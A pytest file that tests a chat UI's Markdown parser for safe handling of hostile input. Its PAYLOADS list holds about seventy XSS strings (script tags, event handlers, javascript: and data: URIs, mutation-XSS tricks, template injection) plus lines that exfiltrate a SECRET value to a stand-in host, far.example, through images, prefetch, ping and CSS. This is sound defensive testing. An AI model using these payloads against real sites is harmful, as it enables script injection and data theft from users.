"""The page's Markdown: hostile text stays text. Runs static/markdown.js in the node that playwright ships."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

STATIC = Path(__file__).resolve().parent.parent / "lottery_chat" / "ui" / "static"
FAR = "http://far.example"

#: One adversarial list for every place where text is shown. Each calls `pwned` or fetches from `far.example`.
PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    '![" onerror="pwned()](x)',
    "<svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<details ontoggle=pwned() open>x</details>",
    "<video><source onerror=pwned()></video>",
    "<body onload=pwned()>",
    '<a href="java&#9;script:pwned()">x</a>',
    "<a href='javascript&colon;pwned()'>x</a>",
    "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "<a href='vbscript:pwned()'>x</a>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "<javascript:pwned()>",
    "[x][1]\n\n[1]: javascript:pwned()",
    'https://far.example/"onmouseover="pwned()',
    '<https://far.example/"onclick=pwned()>',
    '```"><img src=x onerror=pwned()>\ncode\n```',
    "```mermaid\ngraph TD; A[<img src=x onerror=pwned()>]\n```",
    "$\\href{javascript:pwned()}{x}$",
    "$\\htmlData{x=1}{y}$ \\includegraphics{http://far.example/a.png}",
    "<!--><img src=x onerror=pwned()>-->",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "<form><input type=submit formaction=javascript:pwned()></form>",
    "<base href=http://far.example/>",
    "<meta http-equiv=refresh content='0;url=http://far.example/'>",
    "<style>@import 'http://far.example/a.css';</style>",
    "<div style='background:url(http://far.example/b.png)'>x</div>",
    "<img name=body><img id=page>",
    "\x1b[31mred\x1b[0m \x1b]8;;http://far.example\x07x",
    "\u202egnp.exe \u2066<img src=x onerror=pwned()>",
    "`</code><script>pwned()</script>`",
    "**<b onclick=pwned()>x</b>**",
    "| a | b |\n| --- | --- |\n| <img src=x onerror=pwned()> | x |",
    "> <script>pwned()</script>",
    "- <script>pwned()</script>\n  - <img src=x onerror=pwned()>",
    "# <script>pwned()</script>",
    "<object data='javascript:pwned()'></object>",
    "<embed src='javascript:pwned()'>",
    "<link rel=stylesheet href=http://far.example/c.css>",
    "<input autofocus onfocus=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<isindex action=javascript:pwned() type=image>",
    "<x contenteditable onblur=pwned()>x</x>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "<%= pwned() %>",
    '"><script>pwned()</script>',
    "'-pwned()-'",
    "[a](<javascript:pwned()>)",
    "![x](javascript:pwned())",
    "[x](http://user:pass@far.example/)",
    # exfiltration: nothing may be fetched
    "![](http://far.example/?q=SECRET)",
    "![x][1]\n\n[1]: http://far.example/SECRET",
    "<img srcset='http://far.example/SECRET 1x'>",
    "<picture><source srcset=http://far.example/SECRET></picture>",
    "<video poster=http://far.example/SECRET></video>",
    "<link rel=prefetch href=http://far.example/SECRET>",
    "<a href=/ ping=http://far.example/SECRET>x</a>",
    "<svg><image href=http://far.example/SECRET /></svg>",
    "<svg><use href='http://far.example/SECRET#x'/></svg>",
    "![x](//far.example/SECRET)",
    '![x](https://far.example/SECRET.png "t")',
    "[![x](http://far.example/SECRET)](http://far.example)",
    "<table background=http://far.example/SECRET><tr><td>x</table>",
)
_LINK_FREE = {"p", "math", "h", "code", "quote", "list", "table", "hr", "b", "i", "s", "br", "cite", "a", "img"}


@pytest.fixture(scope="module")
def node() -> str:
    driver = pytest.importorskip("playwright._impl._driver")
    found = Path(driver.compute_driver_executable()[0])
    if not found.is_file():
        pytest.skip(f"no node at {found}: pip install playwright brings one")
    return str(found)


def run(node: str, script: str, *values: Any) -> Any:
    """Run a module that imports the page's markdown.js; `script` sees `values` and prints JSON."""
    head = f'import * as md from "{STATIC.as_uri()}/markdown.js";const values = {json.dumps(values)};'
    done = subprocess.run(
        [node, "--input-type=module", "-e", f"{head}console.log(JSON.stringify({script}))"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def parse(node: str, *texts: str) -> list[Any]:
    return list(run(node, "values.map(md.parse)", *texts))


def nodes(tree: Any) -> list[dict[str, Any]]:
    if isinstance(tree, dict):
        return [tree, *(one for value in tree.values() for one in nodes(value))]
    if isinstance(tree, list):
        return [one for value in tree for one in nodes(value)]
    return []


def words(tree: Any) -> str:
    if isinstance(tree, str):
        return tree
    if isinstance(tree, dict):
        return " ".join(words(tree[key]) for key in ("c", "s", "items", "head", "body", "alt", "n") if key in tree)
    return " ".join(words(one) for one in tree) if isinstance(tree, list) else str(tree)


def test_there_are_seventy_payloads_and_each_is_different() -> None:
    assert len(set(PAYLOADS)) >= 70


def test_no_payload_becomes_anything_but_known_nodes_with_addresses_of_the_web(node: str) -> None:
    for payload, tree in zip(PAYLOADS, parse(node, *PAYLOADS)):
        for one in nodes(tree):
            assert one["t"] in _LINK_FREE, payload
            assert "href" not in one or one["href"].startswith(("http://", "https://", "mailto:")), payload
        assert not any(
            "pwned" in one.get("href", "") and "(" in one["href"] for one in nodes(tree) if one["t"] == "img"
        )


def test_the_text_of_a_payload_remains_to_be_read(node: str) -> None:
    for payload, tree in zip(PAYLOADS, parse(node, *(f"before {one}\n\nSENTINEL" for one in PAYLOADS))):
        shown = words(tree)
        assert "before" in shown and ("SENTINEL" in shown), payload


def test_an_image_is_kept_as_a_link_that_names_its_host(node: str) -> None:
    (tree,) = parse(node, f"![a chart]({FAR}/x.png)")
    assert tree[0]["c"] == [{"t": "img", "alt": "a chart", "href": f"{FAR}/x.png", "host": "far.example"}]


def test_a_link_whose_words_are_not_its_address_names_its_host(node: str) -> None:
    (tree,) = parse(node, f"[my bank]({FAR}/login) and https://plain.example/a")
    hosts = [one["host"] for one in nodes(tree) if one["t"] == "a"]
    assert hosts == ["far.example", ""]


@pytest.mark.parametrize(
    "bad",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//far.example",
        "/local",
        "file:///etc/passwd",
        "blob:x",
        "http://a:b@c/",
    ],
)
def test_only_web_and_mail_addresses_are_links(node: str, bad: str) -> None:
    assert run(node, "values.map((one) => md.safeUrl(one) === null)", bad) == [True]
    assert run(node, "values.map((one) => md.safeUrl(one) === null)", "https://ok.example/") == [False]  # the control


def test_the_usual_markdown_is_understood(node: str) -> None:
    text = "# Title\n\nA **bold** and *slanted* `code`.\n\n1. one\n2. two\n   - inner\n\n> said\n\n```py\nx = 1\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\nend [1]"
    (tree,) = parse(node, text)
    assert [one["t"] for one in tree] == ["h", "p", "list", "quote", "code", "table", "hr", "p"]
    assert tree[2]["ordered"] and tree[2]["items"][1][1]["t"] == "list"
    assert tree[4] == {"t": "code", "lang": "py", "s": "x = 1"}
    assert tree[5]["align"] == ["start", "end"]
    assert tree[7]["c"] == ["end ", {"t": "cite", "n": 1}]


def test_names_with_underscores_and_products_with_stars_stay_as_they_are(node: str) -> None:
    (tree,) = parse(node, "my_file_name and 2 * 3 * 4 and a*b")
    assert tree[0]["c"] == ["my_file_name and 2 * 3 * 4 and a*b"]


def test_text_that_grows_letter_by_letter_never_breaks_the_parser(node: str) -> None:
    text = "**a [b](http://far.example) `c` ~~d~~ <script>e</script> | f |"
    trees = parse(node, *(text[:end] for end in range(len(text) + 1)))
    assert len(trees) == len(text) + 1 and trees[-1]


@pytest.mark.parametrize(
    "piece", ["[", "*a", "`", "![", "<", "_a ", "**a*", "> ", "- ", "|a", "http://", "(", "[1](", "#"]
)
def test_a_long_hostile_text_is_read_in_a_second(node: str, piece: str) -> None:
    made = "values.map(([piece, n]) => { const text = piece.repeat(n); const since = Date.now(); md.parse(text); return Date.now() - since; })"
    (milliseconds,) = run(node, made, [piece, 100_000 // len(piece)])
    assert milliseconds < 1000


def test_lines_that_a_page_had_broken_flow_again_and_lists_and_tables_keep_theirs(node: str) -> None:
    text = "# Depot\n\nIt opens at\n06:40 on\ndays.\n- a\n- b\n1. x\n2. y\n| a |\n| 1 |\nend\nof it"
    flowing = run(node, "(await import(values[0])).flowing(values[1])", f"{STATIC.as_uri()}/trace.js", text)
    assert flowing == "# Depot\n\nIt opens at 06:40 on days.\n- a\n- b\n1. x\n2. y\n| a |\n| 1 |\nend of it"
